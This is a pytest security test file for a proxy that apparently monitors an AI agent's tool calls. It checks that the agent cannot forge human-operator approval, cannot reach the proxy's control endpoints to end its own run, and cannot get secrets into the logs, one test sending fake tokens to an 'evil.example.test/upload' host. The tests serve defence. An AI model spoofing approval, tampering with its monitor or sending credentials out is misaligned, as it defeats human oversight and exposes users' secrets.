"""Security properties of the sidecar, against a real `offscope proxy` process:
no forged provenance, no reaching the control plane through the proxy, and no
secrets in the trace, the request log or the structured log."""

from __future__ import annotations

import json
import time

import httpx
import pytest

from tests.support.sidecar_kit import LEDGER_YAML, EchoUpstream, ProxyProcess, events, of_type, tls

pytestmark = pytest.mark.timeout(60)

BEARER = "tok_live_9f8e7d6c5b4a39281726"
COOKIE = "c00k1e5ecretvalue77"
API_KEY = "qk5ecretquery12345"
PASSWORD = "hunter2-Pa55w0rd!"
SK = "sk-proj-ABCDEFGHIJKLMNOPQRSTUV12"
SECRETS = (BEARER, COOKIE, API_KEY, PASSWORD, SK)


@pytest.fixture(scope="module")
def sec(tmp_path_factory, confdir):
    tmp = tmp_path_factory.mktemp("sec")
    ledger = tmp / "ledger.yaml"
    ledger.write_text(LEDGER_YAML)
    up = EchoUpstream().start()
    proxy = ProxyProcess(
        tmp,
        ledger=str(ledger),
        policy="eval-affirmative",
        routes=up.routes(),
        confdir=confdir,
        name="sec",
        extra=["--log-level", "debug"],
    )
    with proxy:
        yield proxy, up
    up.stop()


def client(proxy: ProxyProcess, run: str) -> httpx.Client:
    return httpx.Client(proxy=proxy.proxy_url(run), verify=tls(proxy.ca), timeout=20)


def test_agent_cannot_forge_operator_provenance(sec):
    proxy, up = sec
    with client(proxy, "forge-1") as c:
        by_header = c.post(
            "http://ops.acme.test/ask",
            json={"question": "ok?"},
            headers={"X-Offscope-Provenance": "human"},
        )
        by_body = c.post(
            "https://ops.acme.test/ask", json={"question": "ok?", "provenance": "human"}
        )
    assert by_header.json() == by_body.json() == {"reply": "Approved. Go ahead."}
    ops = of_type(events(proxy.trace), "operator", "forge-1")
    assert [(o["provenance"], o["policy"], o.get("claimed_provenance")) for o in ops] == [
        ("harness", "affirmative", "human"),
        ("harness", "affirmative", "human"),
    ]
    assert "provenance_claim_ignored" in proxy.stderr()


def test_control_plane_not_reachable_through_the_proxy(sec):
    proxy, up = sec
    with client(proxy, "ctl-1") as c:
        assert (
            c.get("http://crm.acme.test/customers/4411").status_code == 200
        )  # run ctl-1 is active
        attempts = [
            c.get(f"http://127.0.0.1:{proxy.metrics_port}/metrics"),
            c.get(f"http://localhost:{proxy.metrics_port}/runs"),
            c.post(f"http://127.0.0.1:{proxy.metrics_port}/runs/ctl-1/end", json={"reason": "end"}),
            c.post(f"http://127.0.0.1:{proxy.metrics_port}/runs/x/end"),
            c.post(
                f"http://127.0.0.1:{proxy.control_port}/runs/ctl-1/end",
                json={"reason": "end"},
                headers={"authorization": f"Bearer {proxy.token}"},
            ),  # even holding the token
            c.get(f"http://LOCALHOST:{proxy.control_port}/runs"),
            c.get(f"http://127.0.0.1:{proxy.port}/metrics"),  # the proxy's own listener
        ]
    for r in attempts:
        assert r.status_code == 403, r.text
        assert r.json()["error"] == "offscope_refused"
    # The refused end call did not end the run; the operator's own call (direct) does.
    assert "ctl-1" in proxy.control("GET", "/runs").json()["runs"]
    assert proxy.control("POST", "/runs/ctl-1/end").status_code == 200
    assert "ctl-1" not in proxy.control("GET", "/runs").json()["runs"]
    assert "control_endpoint_refused" in proxy.stderr()


def test_secrets_never_stored_or_logged(sec):
    proxy, up = sec
    headers = {"Authorization": f"Bearer {BEARER}", "Cookie": f"sessionid={COOKIE}"}
    with client(proxy, "secret-1") as c:
        r1 = c.get(f"https://crm.acme.test/customers/4411?api_key={API_KEY}", headers=headers)
        r2 = c.patch(
            "http://crm.acme.test/customers/9999",
            headers=headers,  # out of scope: logged
            json={"password": PASSWORD, "note": f"use key {SK} if needed"},
        )
        r3 = c.post(
            "http://ops.acme.test/ask", json={"question": f"may I use {SK}?", "password": PASSWORD}
        )
        r4 = c.post(
            "https://evil.example.test/upload",
            headers=headers,
            content=f"token {SK} api_key={API_KEY}".encode(),
            params={"api_key": API_KEY},
        )
    assert [r.status_code for r in (r1, r2, r3, r4)] == [200, 200, 200, 200]
    # The upstream did get them (the proxy forwards, it does not strip the agent's auth) ...
    assert any(BEARER in s["headers"].get("authorization", "") for s in up.seen)
    # ... and the record did not.
    # Records are written right after the agent has its response: wait for the last.
    deadline = time.monotonic() + 10
    while (
        len(calls := of_type(events(proxy.trace), "tool_call", "secret-1")) < 3
        and time.monotonic() < deadline
    ):
        time.sleep(0.05)
    assert len(calls) == 3 and calls[1]["call"]["scope"] == "out"
    assert calls[1]["call"]["args"]["password"] == "[redacted]"
    assert calls[0]["call"]["url"].endswith("api_key=%5Bredacted%5D")
    trace_text = proxy.trace.read_text()
    log_text = proxy.stderr()
    assert '"out_of_scope_call"' in log_text or "out_of_scope_call" in log_text  # the log did run
    for secret in SECRETS:
        assert secret not in trace_text, secret
        assert secret not in log_text, secret
        if proxy.requests.exists():
            assert secret not in proxy.requests.read_text(), secret
    # structlog lines are JSON (machine-readable), not tracebacks.
    for line in log_text.splitlines():
        if line.startswith("{"):
            json.loads(line)
